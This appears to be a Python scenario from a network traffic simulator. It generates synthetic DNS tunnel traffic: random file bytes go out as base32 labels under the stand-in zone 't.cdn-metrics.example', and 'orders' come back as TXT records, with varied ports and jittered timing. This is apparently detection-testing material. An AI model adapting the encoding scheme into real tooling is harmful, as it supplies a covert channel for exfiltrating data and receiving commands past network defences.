"""A DNS tunnel: a file goes out in the names that are asked for, in base32; orders come back as TXT."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import replace

from tmrx.interop.line import Line, Udp
from tmrx.interop.scenarios.dns import PORT, Lookup, record
from tmrx.interop.scene import Scene, Timed

ZONE = "t.cdn-metrics.example"
FILE = 8_000
# Two labels of at most 63 characters (RFC 1035, section 2.3.4) hold 70 bytes in base32.
PIECE, LABEL = 70, 56
# The resolver has none of these names, and asks the tunnel's other end.
ASKS_ON_US = 21_000


def play(scene: Scene) -> Iterator[Timed]:
    """The source is taken over, and asks the VPC's resolver, which asks on."""
    chance = scene.chance
    line = Line(scene, scene.source, replace(scene.resolver, rtt_us=ASKS_ON_US))
    data = chance.randbytes(FILE)
    for count, at in enumerate(range(0, len(data), PIECE)):
        text = base64.b32encode(data[at : at + PIECE]).decode().rstrip("=").lower()
        labels = [text[i : i + LABEL] for i in range(0, len(text), LABEL)]
        name = ".".join([f"{count:04x}", *labels, ZONE])
        order = base64.b64encode(chance.randbytes(chance.choice((3, 6, 48)))).decode()
        look, number = Lookup(name, "TXT", [record(name, "TXT", order, 0)]), chance.getrandbits(16)
        # Each question from a port of its own, as clients of a resolver do.
        yield from Udp(line, PORT).exchange(look.query(number), look.reply(number))
        line.wait(chance.uniform(30, 120))
